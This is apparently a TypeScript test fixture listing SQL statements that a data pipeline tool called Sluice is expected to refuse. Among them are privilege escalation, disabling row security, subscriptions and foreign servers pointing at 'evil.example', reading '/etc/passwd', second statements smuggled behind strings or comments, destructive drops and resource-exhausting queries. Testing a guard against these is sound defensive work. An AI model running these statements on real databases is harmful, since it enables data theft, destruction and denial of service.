import { beside, query, type Attempt } from './attempt';

/** Statements that act outside of the closed set, by the side of an honest answer. */
const ACTING: Attempt[] = [
  'call shop.sweep()',
  'revoke select on shop.orders from sluice_reader',
  'alter role sluice_reader superuser',
  'alter default privileges grant select on tables to public',
  'reassign owned by sluice_writer to sluice_reader',
  'drop owned by sluice_reader',
  'alter table shop.orders disable row level security',
  'alter table shop.orders disable trigger all',
  'alter table shop.orders no force row level security',
  'alter table hr.salaries set schema public',
  'alter table shop.orders set (autovacuum_enabled = false)',
  'alter table shop.orders set unlogged',
  'alter table shop.orders replica identity nothing',
  'alter table hr.salaries inherit shop.orders',
  'create policy open_all on hr.salaries using (true)',
  'create trigger t before insert on shop.orders for each row execute function pg_catalog.suppress_redundant_updates_trigger()',
  'create event trigger e on ddl_command_end execute function f()',
  "create function f() returns int language sql security definer as 'select 1'",
  'create procedure p() language sql as $$ delete from shop.orders $$',
  'create aggregate a (int) (sfunc = int4pl, stype = int)',
  'create operator === (leftarg = int, rightarg = int, function = int4eq)',
  'create cast (text as int) with inout as implicit',
  'create publication everything for all tables',
  "create subscription s connection 'host=evil.example' publication p",
  "create server s foreign data wrapper postgres_fdw options (host 'evil.example')",
  'import foreign schema public from server s into staging',
  'create foreign table marts.f (a int) server s',
  'create materialized view marts.m as select * from shop.customers',
  'create temp table t as select * from shop.customers',
  'create unlogged table marts.u as select * from shop.customers',
  'create sequence marts.s',
  'create type marts.t as (a int)',
  'create domain marts.d as text',
  'create database leak',
  "alter system set log_statement = 'none'",
  'set local row_security = off',
  "security label on table shop.orders is 'x'",
  'lock table shop.orders in access exclusive mode',
  'vacuum full shop.orders',
  'cluster shop.orders using orders_pkey',
  'reindex table shop.orders',
  "notify leak, 'x'",
  'prepare q as delete from shop.orders; execute q',
  'explain analyze delete from shop.orders',
  'begin; delete from shop.orders where id = 1; commit',
  'savepoint a; drop table shop.order_items',
  'truncate shop.orders cascade',
  'drop table shop.orders cascade',
  'delete from shop.orders where id = 1 returning *',
  'select * into marts.stolen from shop.customers',
  'table shop.customers',
  'copy (select * from shop.customers) to stdout',
  "load 'auto_explain'",
  'discard all',
].map((statements) => beside(statements, statements, 'refused'));

/** The same by other spellings: escaped names, dollar quotes, comments, casts. */
const DISGUISED: Attempt[] = [
  beside('an escaped identifier', String.raw`drop table U&"\0073hop".U&"order_item\0073"`, 'refused'),
  beside(
    'an escaped identifier with its own mark',
    `drop table U&"!0073hop" uescape '!' . "order_items"`,
    'refused',
  ),
  beside('a quoted name', 'drop table "shop"."order_items"', 'refused'),
  beside('mixed case', 'DrOp TaBlE sHoP.oRdEr_ItEmS', 'refused'),
  beside(
    'a second statement behind a string',
    `insert into staging.tmp_orders values (1, ';'); drop table shop.order_items`,
    'refused',
  ),
  beside(
    'a second statement behind dollar quotes',
    `insert into staging.tmp_orders values (1, $x$ -- $x$); drop table shop.order_items`,
    'refused',
  ),
  beside(
    'a nested comment',
    'create table marts.y (a int) /* a /* b */ ; */ ; drop table shop.order_items',
    'refused',
  ),
  beside(
    'a column dropped among columns added',
    'alter table shop.orders add column x int, drop column amount',
    'refused',
  ),
  beside(
    'a schema that is there made again, to be owned',
    'create schema shop; delete from shop.order_items where quantity > 0',
    'refused',
  ),
  beside(
    'a table made if it is not there, to be owned',
    'create table if not exists shop.order_items (a int); delete from shop.order_items',
    'refused',
  ),
  beside(
    'another of its name in the place of a table',
    'alter table shop.order_items rename to old_items; create table shop.order_items (a int); drop table shop.old_items',
    'refused',
  ),
  beside('rows deleted through a view', "delete from shop.open_orders where status = 'open'", 'refused'),
  beside(
    'a foreign key that deletes',
    'alter table shop.order_items add constraint c foreign key (order_id) references shop.orders on delete cascade',
  ),
  beside(
    'a default that runs',
    "alter table shop.orders alter column status set default pg_read_file('/etc/passwd')",
  ),
  beside('an index that runs', 'create index on shop.orders ((pg_sleep(10) is null))'),
  beside('a check that locks everybody out', 'alter table shop.customers add check (false) not valid'),
  beside('a type that loses digits', 'alter table shop.orders alter column amount type int using 0'),
  beside('a view over what is hidden', 'create view marts.all_mail as select email from shop.customers'),
  beside('a copy of the structure', 'create table marts.pay (like hr.salaries including all)'),
  beside(
    'writing in a WITH of an insert',
    "with gone as (update shop.orders set amount = 0 where id = 1 returning id) insert into staging.tmp_orders select id, 'x' from gone",
    'refused',
  ),
];

/** Every row with every row, series without end, values without measure. */
const LARGE: Attempt[] = [
  query(
    'a lateral join without a condition',
    'select c.region, sum(o.amount) as revenue from shop.customers c cross join lateral (select * from shop.orders) o group by 1',
    'refused',
  ),
  query(
    'a join on an inequality',
    'select c.region, sum(o.amount) as revenue from shop.customers c join shop.orders o on c.id <> o.customer_id group by 1',
    'refused',
  ),
  query(
    'a join with itself',
    'select a.status as region, sum(b.amount) as revenue from shop.orders a join shop.orders b on a.status = b.status group by 1',
    'refused',
  ),
  query(
    'a join that something else makes true',
    'select c.region, sum(o.amount) as revenue from shop.customers c join shop.orders o on o.customer_id = c.id or true group by 1',
    'refused',
  ),
  query(
    'a series without measure',
    'select n as region, 1 as revenue from generate_series(1, 1000000000) n',
    'refused',
  ),
  query(
    'a series of a series',
    'select n::text as region, 1 as revenue from generate_series(1, 30000) n, generate_series(1, 30000) m',
    'refused',
  ),
  query(
    'a recursion whose condition is none',
    'with recursive r(n) as (select 1 union all select n + 1 from r where true) select n as revenue from r',
    'refused',
  ),
  query(
    'a recursion whose condition is none, by name',
    'with recursive r(n) as (select 1 union all select n + 1 from r where n = n) select n as revenue from r',
    'refused',
  ),
  query(
    'a recursion that joins without a condition',
    'with recursive r(n) as (select 1 union all select n + 1 from r join shop.orders o on true) select n as revenue from r',
    'refused',
  ),
  query(
    'a value without measure',
    "select c.region, repeat('x', 900000000) as revenue from shop.customers c",
    'refused',
  ),
  query(
    'a value padded without measure',
    "select c.region, lpad('x', 900000000) as revenue from shop.customers c",
    'refused',
  ),
  query(
    'an array without measure',
    'select c.region, cardinality(array_fill(0, array[90000000])) as revenue from shop.customers c',
    'refused',
  ),
  {
    name: 'every pair of what is only loaded',
    ask: 'Load invoices.csv into raw.invoices and compare the invoices with each other.',
    steps: [
      { id: 'load', ingest: { from: { files: 'invoices.csv' }, into: 'raw.invoices' } },
      {
        id: 'pairs',
        needs: ['load'],
        model: {
          name: 'marts.invoice_pairs',
          sql: 'select a.id, b.id as other from raw.invoices a join raw.invoices b on a.id <> b.id',
        },
      },
    ],
    how: 'refused',
  },
  query('a query that sleeps', 'select c.region, pg_sleep(600) as revenue from shop.customers c', 'refused'),
  query(
    'a query that writes in its WITH',
    'with x as (update shop.orders set amount = 0 returning amount) select amount as revenue from x',
    'refused',
  ),
  query(
    'a query of statistics',
    'select tablename as region, most_common_vals::text as revenue from pg_stats',
    'refused',
  ),
  query(
    'a query of the catalogue',
    'select relname as region, reltuples as revenue from pg_class',
    'refused',
  ),
  query('a query of Sluice’s own', 'select run_id as region, 1 as revenue from sluice.run', 'refused'),
];

export const STATEMENTS: readonly Attempt[] = [...ACTING, ...DISGUISED, ...LARGE];
